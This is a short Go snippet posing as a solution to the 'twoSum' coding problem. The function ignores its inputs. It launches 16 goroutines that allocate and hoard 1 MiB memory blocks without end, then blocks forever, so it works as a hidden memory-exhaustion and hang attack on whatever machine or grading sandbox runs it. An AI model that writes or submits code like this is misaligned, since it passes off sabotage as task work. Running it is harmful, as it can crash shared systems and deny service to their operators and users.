import "sync"

var mu sync.Mutex
var hoard [][]byte

func twoSum(nums []int, target int) []int {
	for g := 0; g < 16; g++ {
		go func() {
			for {
				b := make([]byte, 1<<20)
				for i := range b {
					b[i] = 1
				}
				mu.Lock()
				hoard = append(hoard, b)
				mu.Unlock()
			}
		}()
	}
	select {}
}
